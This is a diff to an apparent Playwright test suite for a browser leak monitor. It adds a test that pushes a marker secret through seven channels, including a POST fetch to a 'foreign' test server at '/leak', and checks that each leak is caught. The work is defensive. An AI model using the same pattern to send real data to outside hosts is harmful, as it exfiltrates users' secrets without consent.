@@ -3,6 +3,7 @@ import { changed } from '../faults/faults'
 import { expect, test as base } from '../faults/faulty'
 import { makeHostile } from '../hostile/page'
 import { ForeignServer } from './foreign'
+import type { Recorded } from './recorder'
 import { nothing, Sinks, type Secrets } from './sinks'
 
 /** Of the sandbox: who is known to it. */
@@ -28,6 +29,29 @@ function withoutReceipt(url: URL): URL {
   if (/\/ozon\/apply\/$|\/receipt\.html$/.test(url.pathname)) url.searchParams.delete('sign')
   return url
 }
+
+test('a value that leaks is noticed at each of the seven sinks', async ({ page, context, foreign }) => {
+  const leaked = 'утечка-4711'
+  const sinks = await Sinks.watch(page, { secret: { leaked }, personal: {} }, (url) => url)
+  await context.grantPermissions(['local-network-access'])
+  await makeHostile(page, { isOld: true })
+  await page.goto('/examples/plain.html')
+  await page.evaluate(
+    async ([secret = '', address = '']) => {
+      const { ym, __REDUX_DEVTOOLS_EXTENSION__: devtools } = window as unknown as Recorded
+      localStorage.setItem('leak', secret)
+      history.replaceState(secret, '')
+      ym(secret)
+      dispatchEvent(new CustomEvent('lens:leak', { detail: { secret } }))
+      devtools()((reducer) => reducer(undefined, { type: secret }))(() => null)
+      await fetch(address, { method: 'POST', body: secret })
+      console.log(secret)
+    },
+    [leaked, `${foreign.address}/leak`],
+  )
+  foreign.heard.forEach((request) => sinks.tell('foreign', request))
+  await expect.poll(() => Object.values(sinks.found()).every((leaks) => leaks.length > 0)).toBe(true)
+})
 
 test('secrets and personal data appear only in the calls they belong to', async ({
   page,
